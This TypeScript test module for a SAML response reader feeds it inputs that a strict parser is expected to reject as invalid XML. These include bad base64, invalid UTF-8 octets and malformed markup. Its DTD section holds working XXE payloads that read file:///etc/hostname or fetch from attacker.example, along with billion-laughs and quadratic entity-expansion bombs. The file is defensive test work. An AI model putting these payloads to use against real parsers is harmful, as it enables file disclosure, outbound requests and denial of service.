// Octets, markup and document types that a strict reader refuses before it understands anything.

import { deflateRawSync } from 'node:zlib';
import { encodeResponse } from '../response.ts';
import type { AttackContext } from './attack.ts';
import { after, attacksOf, before, changedAfterSigning, respond, signedEdit, swap } from './compose.ts';
import type { AttackRow, Forged } from './compose.ts';

const INVALID = 'xml_invalid';
const good = (context: AttackContext): string => respond(context).xml;
const raw =
  (make: (context: AttackContext) => string): AttackRow[2] =>
  (context) => ({ samlResponse: make(context) });
const bytes =
  (make: (xml: string) => Buffer): AttackRow[2] =>
  (context): Forged => ({ samlResponse: make(good(context)).toString('base64') });
const declaration =
  (text: string): AttackRow[2] =>
  (context) =>
    text + good(context);
const inText = (octets: readonly number[]): AttackRow[2] =>
  bytes((xml) => {
    const [head = '', tail = ''] = xml.split('<saml:Subject>');
    return Buffer.concat([Buffer.from(`${head}<saml:Subject>`), Buffer.from(octets), Buffer.from(tail)]);
  });

const encodingRows: readonly AttackRow[] = [
  ['an empty form value', INVALID, raw(() => '')],
  ['a form value of blanks', INVALID, raw(() => ' \r\n ')],
  ['XML without base64', INVALID, raw(good)],
  [
    'base64url',
    INVALID,
    raw((context) => {
      const text = encodeResponse(good(context));
      return `${text.slice(0, 40)}-_${text.slice(42)}`;
    }),
  ],
  ['base64 with a character that is none', INVALID, raw((context) => `*${encodeResponse(good(context))}`)],
  ['base64 with text behind its padding', INVALID, raw((context) => `${padded(good(context))}AAAA`)],
  ['base64 without its padding', INVALID, raw((context) => padded(good(context)).replace(/=+$/u, ''))],
  ['base64 twice', INVALID, raw((context) => encodeResponse(encodeResponse(good(context))))],
  [
    'base64 with a data URL before it',
    INVALID,
    raw((context) => `data:text/xml;base64,${encodeResponse(good(context))}`),
  ],
  [
    'deflated, as only redirects are',
    INVALID,
    raw((context) => deflateRawSync(good(context)).toString('base64')),
  ],
  ['UTF-16 with a byte order mark', INVALID, bytes((xml) => Buffer.from(`\uFEFF${xml}`, 'utf16le'))],
  ['UTF-16 without a byte order mark', INVALID, bytes((xml) => Buffer.from(xml, 'utf16le'))],
  [
    'Latin-1 under a Latin-1 declaration',
    INVALID,
    bytes((xml) =>
      Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${xml.replace('Mel', 'Mél')}`, 'latin1'),
    ),
  ],
  ['UTF-7 by declaration', INVALID, declaration('<?xml version="1.0" encoding="UTF-7"?>')],
  ['EBCDIC by declaration', INVALID, declaration('<?xml version="1.0" encoding="IBM037"?>')],
  ['XML 1.1', INVALID, declaration('<?xml version="1.1" encoding="UTF-8"?>')],
  ['an overlong sequence', INVALID, inText([0xc0, 0xbc])],
  ['an overlong NUL', INVALID, inText([0xc0, 0x80])],
  ['a surrogate in UTF-8', INVALID, inText([0xed, 0xa0, 0x80])],
  ['a code point beyond Unicode', INVALID, inText([0xf4, 0x90, 0x80, 0x80])],
  ['a sequence that is cut off', INVALID, inText([0xe2, 0x82])],
  ['a byte that never occurs in UTF-8', INVALID, inText([0xff])],
  ['a NUL', INVALID, inText([0])],
  ['a control character', INVALID, inText([1])],
  ['the noncharacter U+FFFF', INVALID, inText([0xef, 0xbf, 0xbf])],
  ['a reference to NUL', INVALID, signedEdit(swap('>member@', '>&#0;member@'))],
  ['a reference to a control character', INVALID, signedEdit(swap('>member@', '>&#x1;member@'))],
  ['a reference to a surrogate', INVALID, changedAfterSigning(swap('>member@', '>&#xD800;member@'))],
  ['a reference beyond Unicode', INVALID, changedAfterSigning(swap('>member@', '>&#x110000;member@'))],
  ['a reference without digits', INVALID, changedAfterSigning(swap('>member@', '>&#;member@'))],
  ['a reference without its semicolon', INVALID, changedAfterSigning(swap('>member@', '>&#109ember@'))],
];

const markupRows: readonly AttackRow[] = [
  ['text before the root', INVALID, (context) => `text${good(context)}`],
  ['text behind the root', INVALID, (context) => `${good(context)}text`],
  ['a second root', INVALID, (context) => `${good(context)}<x/>`],
  ['a blank before the XML declaration', INVALID, (context) => ` <?xml version="1.0"?>${good(context)}`],
  ['two XML declarations', INVALID, declaration('<?xml version="1.0"?><?xml version="1.0"?>')],
  [
    'an XML declaration inside the document',
    INVALID,
    changedAfterSigning(before('<samlp:Status>', '<?xml version="1.0"?>')),
  ],
  ['an XML declaration without version', INVALID, declaration('<?xml encoding="UTF-8"?>')],
  ['an XML declaration with an unknown attribute', INVALID, declaration('<?xml version="1.0" x="y"?>')],
  ['the root is not closed', INVALID, changedAfterSigning(swap('</samlp:Response>', ''))],
  ['end tags are crossed', INVALID, changedAfterSigning(swap('</saml:Subject>', '</saml:Conditions>'))],
  ['an end tag with another prefix', INVALID, changedAfterSigning(swap('</samlp:Status>', '</saml:Status>'))],
  [
    'an end tag with an attribute',
    INVALID,
    changedAfterSigning(swap('</samlp:Status>', '</samlp:Status x="1">')),
  ],
  ['an end tag too many', INVALID, changedAfterSigning(before('</samlp:Response>', '</samlp:Status>'))],
  ['an attribute without quotes', INVALID, changedAfterSigning(swap('Version="2.0"', 'Version=2.0'))],
  ['an attribute without value', INVALID, changedAfterSigning(swap('Version="2.0"', 'Version="2.0" x'))],
  ['an attribute in crossed quotes', INVALID, changedAfterSigning(swap('Version="2.0"', `Version="2.0'`))],
  [
    'attributes without a blank between them',
    INVALID,
    changedAfterSigning(swap('Version="2.0" ', 'Version="2.0"')),
  ],
  [
    'a less-than sign in an attribute',
    INVALID,
    changedAfterSigning(swap('Version="2.0"', 'Version="2.0" x="<"')),
  ],
  ['a bare ampersand', INVALID, changedAfterSigning(swap('Mel Member', 'Mel & Member'))],
  ['the end of a CDATA section in text', INVALID, changedAfterSigning(swap('Mel Member', 'Mel ]]> Member'))],
  [
    'a blank after the less-than sign',
    INVALID,
    changedAfterSigning(swap('<samlp:Status>', '< samlp:Status>')),
  ],
  ['a name that begins with a digit', INVALID, changedAfterSigning(before('<samlp:Status>', '<1x/>'))],
  ['nothing but text', INVALID, () => 'SAML'],
  ['HTML', INVALID, () => '<!doctype html><title>Sign in</title>'],
  ['JSON', INVALID, () => '{"NameID":"owner@acme.example"}'],
];

const doctype =
  (text: string): AttackRow[2] =>
  (context) =>
    text + good(context);
const LAUGHS = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join('');

const dtdRows: readonly AttackRow[] = [
  ['an empty DOCTYPE', INVALID, doctype('<!DOCTYPE samlp:Response>')],
  ['a DOCTYPE in lower case', INVALID, doctype('<!doctype samlp:Response>')],
  [
    'a DOCTYPE behind an XML declaration',
    INVALID,
    doctype('<?xml version="1.0"?>\n<!DOCTYPE samlp:Response []>'),
  ],
  ['a DOCTYPE behind the root', INVALID, (context) => `${good(context)}<!DOCTYPE x>`],
  ['a DOCTYPE inside the document', INVALID, changedAfterSigning(before('<samlp:Status>', '<!DOCTYPE x>'))],
  [
    'an external entity',
    INVALID,
    (context) =>
      '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>' + swap('Mel Member', '&e;')(good(context)),
  ],
  [
    'an external entity over HTTP',
    INVALID,
    (context) =>
      '<!DOCTYPE r [<!ENTITY e SYSTEM "http://attacker.example/">]>' +
      swap('Mel Member', '&e;')(good(context)),
  ],
  ['an external document type', INVALID, doctype('<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd">')],
  [
    'a parameter entity',
    INVALID,
    doctype('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>'),
  ],
  [
    'an internal entity in NameID',
    INVALID,
    (context) => '<!DOCTYPE r [<!ENTITY who "owner">]>' + swap('>member@', '>&who;@')(good(context)),
  ],
  [
    'a billion laughs',
    INVALID,
    (context) => `<!DOCTYPE r [<!ENTITY l0 "ha">${LAUGHS}]>` + swap('Mel Member', '&l9;')(good(context)),
  ],
  [
    'an entity that swells quadratically',
    INVALID,
    (context) =>
      `<!DOCTYPE r [<!ENTITY q "${'q'.repeat(5000)}">]>` +
      swap('Mel Member', '&q;'.repeat(5000))(good(context)),
  ],
  [
    'an entity that contains itself',
    INVALID,
    (context) => '<!DOCTYPE r [<!ENTITY e "&e;">]>' + swap('Mel Member', '&e;')(good(context)),
  ],
  ['amp is declared anew', INVALID, doctype('<!DOCTYPE r [<!ENTITY amp "owner">]>')],
  [
    'an attribute gets a default value',
    INVALID,
    doctype('<!DOCTYPE r [<!ATTLIST saml:Assertion ID CDATA "_x">]>'),
  ],
  ['an attribute is declared to be an ID', INVALID, doctype('<!DOCTYPE r [<!ATTLIST x:x Foo ID #IMPLIED>]>')],
  ['an entity of HTML', INVALID, changedAfterSigning(swap('Mel Member', 'Mel&nbsp;Member'))],
  ['an entity nobody declared', INVALID, signedLike('&owner;')],
  [
    'a markup declaration outside any DOCTYPE',
    INVALID,
    changedAfterSigning(after('<samlp:Status>', '<!ELEMENT x ANY>')),
  ],
];

function signedLike(text: string): AttackRow[2] {
  return changedAfterSigning(swap('Mel Member', text));
}

/** Pads the document so that its base64 ends in an equals sign. */
function padded(xml: string): string {
  const blanks = [2, 1, 0].find((count) => (Buffer.byteLength(xml) + count) % 3 !== 0) ?? 1;
  return encodeResponse(xml + '\n'.repeat(blanks));
}

/** Octets and characters. */
export const encodingAttacks = attacksOf('encoding', encodingRows);
/** Markup that is not well-formed. */
export const wellFormednessAttacks = attacksOf('well-formedness', markupRows);
/** Document types and entities. */
export const dtdAttacks = attacksOf('dtd', dtdRows);
